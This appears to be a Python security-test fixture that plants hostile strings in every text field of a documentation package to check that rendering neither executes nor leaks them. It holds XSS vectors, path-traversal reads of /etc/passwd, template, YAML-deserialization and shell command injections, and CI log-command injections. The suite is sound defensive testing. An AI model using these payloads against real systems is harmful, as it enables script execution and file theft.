"""What a hostile partner writes into a package, and the marks by which an effect of it would show."""

import json
import shutil
from pathlib import Path
from typing import Any

from ttpack.source.documents import read_document
from ttpack.source.schemas import violations

MINIMAL = Path(__file__).parent.parent / "packages" / "minimal"

SECRET = "OUTSIDE-SECRET-5d1f"
"""Stands in files outside the package: wherever it shows, something was read that must not be."""

MARK = "ttpwn"
"""What every script among the payloads would set or print."""

ENDS_A_TITLE = "</title><script>window.ttpwn=1</script>"
SCRIPTS = (
    ENDS_A_TITLE,
    "<script>window.ttpwn=1;alert('ttpwn')</script>",
    "<ScRiPt src=//ttpwn.example/x.js></ScRiPt>",
    "<img src=x onerror=window.ttpwn=1>",
    "<svg/onload=window.ttpwn=1>",
    "<svg><animate onbegin=window.ttpwn=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ttpwn=1</script>'></iframe>",
    "<object data='data:text/html,<script>top.ttpwn=1</script>'></object>",
    "<math><a xlink:href='javascript:window.ttpwn=1'>x</a></math>",
    "<details open ontoggle=window.ttpwn=1>x</details>",
    "<style>@import 'https://ttpwn.example/x.css'</style>",
    "<link rel=stylesheet href=https://ttpwn.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://ttpwn.example'>",
    "<base href=https://ttpwn.example/>",
    "<form action=https://ttpwn.example><button>x</button></form>",
    "<a href='javascript:window.ttpwn=1'>x</a>",
    '" onmouseover="window.ttpwn=1" x="',
    "' autofocus onfocus='window.ttpwn=1' x='",
    "</textarea></template></noscript><script>window.ttpwn=1</script>",
    "]]><script>window.ttpwn=1</script>",
    "--><script>window.ttpwn=1</script><!--",
    "<noscript><p title='</noscript><img src=x onerror=window.ttpwn=1>'>",
    "&lt;script&gt;window.ttpwn=1&lt;/script&gt;",
    "&#60;script&#62;window.ttpwn=1&#60;/script&#62;",
    "<!--ttpack--><script>window.ttpwn=1</script><!--/ttpack-->",
    "<ttpack-picture name='00000000000000000000'></ttpack-picture>",
)
LINKS = (
    "[x](javascript:window.ttpwn=1)",
    "[x](JaVaScRiPt&colon;window.ttpwn=1)",
    "[x](java\\script:window.ttpwn=1)",
    "[x](data:text/html,<script>window.ttpwn=1</script>)",
    "[x](vbscript:ttpwn)",
    "[x](//ttpwn.example/)",
    '[x](https://ttpwn.example/ "title" onclick="window.ttpwn=1")',
    "<javascript:window.ttpwn=1>",
    "![x](https://ttpwn.example/pixel.png)",
    "![x](../outside/secret.txt)",
    "![x](/etc/passwd)",
    "![x](file:///etc/passwd)",
    "[x](../outside/secret.txt)",
    "[x][1]\n\n[1]: javascript:window.ttpwn=1",
    "[[PRM-BRX-PH|<script>window.ttpwn=1</script>]]",
    "[[PRM-NONE-1]] {{ PRM-BRX-PH.__class__ }} {{ PRM-NONE-1.setpoint }}",
    "[x](ttpack:../../outside/secret.txt)",
)
ENGINES = (
    "{{ config }} {{ ''.__class__.__mro__ }} {% include '../outside/secret.txt' %} {% raw %}",
    '--8<-- "../outside/secret.txt"',
    '--8<-- "/etc/passwd"',
    '```{=typst}\n#read("../outside/secret.txt")\n```',
    '`#read("/etc/passwd")`{=typst}',
    '#read("../outside/secret.txt") #eval("1") #import "@preview/x:0.1.0"',
    "$ \\input{/etc/passwd} $ \\write18{touch ttpwn}",
    "```{=html}\n<script>window.ttpwn=1</script>\n```",
    '# Title {: onclick="window.ttpwn=1" #PRM-BRX-PH }',
    "text {: .x onclick=window.ttpwn=1 }",
    "{#PRM-BRX-PH onclick=window.ttpwn=1}",
    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; A-->B; click A call window.ttpwn()\n```",
    "::: ttpack\n    handler: python\n:::",
    '!!! note "<script>window.ttpwn=1</script>"\n    x',
    "*[HTML]: <script>window.ttpwn=1</script>",
    "[^1]\n\n[^1]: <script>window.ttpwn=1</script>",
    "!ENV [PATH, x]\n!!python/object/apply:os.system ['touch ttpwn']",
    "${PATH} $(touch ttpwn) `touch ttpwn` ; touch ttpwn | touch ttpwn",
    '=HYPERLINK("https://ttpwn.example","x")',
    "\\u003cscript\\u003ewindow.ttpwn=1\\u003c/script\\u003e",
)
LINES = (
    "::error file=x,line=1::ttpwn",
    "::set-output name=x::ttpwn",
    "first\n::error::ttpwn\n::add-mask::x",
    "%0A::error::ttpwn",
    "##[error]ttpwn",
    "[31mttpwn[0m",
)
PRINTED = ("😀", "µ-Ж-Ω-≤")
SHAPES = (
    " ".join(PRINTED),
    "| a | b |\n|---|---|\n| <script>window.ttpwn=1</script> | [x](javascript:window.ttpwn=1) |",
    "> " * 4 + "quoted <b onclick=window.ttpwn=1>x</b>",
    "- a\n  - b\n    - <img src=x onerror=window.ttpwn=1>",
    "&amp;&lt;&#0;&nbsp;",
    "a" * 3000,
    "word " * 2000,
    "<" * 50 + ">" * 50,
    "_*`~^$#|\\" * 20,
)
_KEPT = ("kind", "id", "schema_version")
TEXTS = (*SCRIPTS, *LINKS, *ENGINES, *LINES, *SHAPES)


def records_of(folder: Path) -> list[dict[str, Any]]:
    """Every record of a package's folder as written."""
    files = sorted((folder / "records").rglob("*.yaml"))
    return [raw.data for path in files for raw in read_document(path.read_bytes(), path.name)]


def poisoned(package: Path) -> int:
    """Make the minimal package at `package` with a payload in every field that takes one; how many were placed."""
    shutil.copytree(MINIMAL, package)
    (package.parent / "outside").mkdir(exist_ok=True)
    (package.parent / "outside" / "secret.txt").write_text(SECRET)
    placed = 0
    for path in sorted((package / "records").rglob("*.yaml")):
        raws = read_document(path.read_bytes(), path.name)
        for raw in raws:
            placed = _poison(raw.data, raw.data, placed)
            if raw.data["kind"] == "unit_operation":  # the title of a page
                raw.data["title"] = ENDS_A_TITLE
        single = raws[0].index is None
        data = raws[0].data if single else [raw.data for raw in raws]
        path.write_text(_json(data))
    manifest = read_document((package / "ttpack.yaml").read_bytes(), "ttpack.yaml")[0].data
    placed = _poison(manifest, manifest, placed)
    manifest["title"] = ENDS_A_TITLE
    (package / "ttpack.yaml").write_text(_json(manifest))
    for number, text in enumerate(TEXTS):
        fields = {"kind": "know_how", "id": f"KNH-H-{number}", "title": text, "audience": ["public"], "x-a": text}
        head = "".join(f"{name}: {_json(value)}\n" for name, value in fields.items())
        (package / "records" / f"know-how-{number}.md").write_text(f"---\n{head}---\n{text}\n")
    return placed + len(TEXTS)


def _json(data: Any) -> str:
    """YAML, which JSON is; decimals keep their digits."""
    text = json.dumps(data, ensure_ascii=False, default=lambda value: f"\u0001{value}\u0001")
    return text.replace('"\\u0001', "").replace('\\u0001"', "")


def _poison(record: dict[str, Any], part: Any, placed: int) -> int:
    """Replace every text that its schema lets us replace, so that names, units and free texts all carry payloads."""
    for key in list(part) if isinstance(part, dict) else range(len(part)):
        value = part[key]
        if isinstance(value, dict | list):
            placed = _poison(record, value, placed)
        elif isinstance(value, str) and key not in _KEPT and part is not record.get("records"):
            part[key] = TEXTS[placed % len(TEXTS)]
            if _refers(value) or violations(record["kind"], record):
                part[key] = value
            else:
                placed += 1
    return placed


def _refers(value: str) -> bool:
    """Whether a value is a reference: without them the records would hang together no more, and pages stay away."""
    head = value.split(".", maxsplit=1)[0]
    return head.isupper() and "-" in head
